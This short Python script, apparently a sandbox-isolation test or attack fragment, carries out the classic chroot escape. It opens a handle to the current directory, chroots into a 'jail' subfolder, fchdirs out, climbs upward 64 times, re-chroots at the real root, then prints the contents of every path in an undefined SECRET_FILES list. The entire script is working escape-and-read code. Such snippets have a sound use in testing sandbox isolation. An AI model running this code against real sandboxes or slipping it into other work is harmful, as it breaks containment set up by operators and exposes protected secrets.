# Processes: the classic chroot escape (chroot into a subfolder, climb out, chroot "."), then the secrets.
import io
import os
try:
    os.mkdir("jail")
except Exception as e:
    print(e)
try:
    fd = os.open(".", os.O_RDONLY)
    os.chroot("jail")
    os.fchdir(fd)
    for i in range(64):
        os.chdir("..")
    os.chroot(".")
except Exception as e:
    print("chroot", e)
for p in SECRET_FILES:
    try:
        print(io.open(p).read())
    except Exception as e:
        print(p, e)
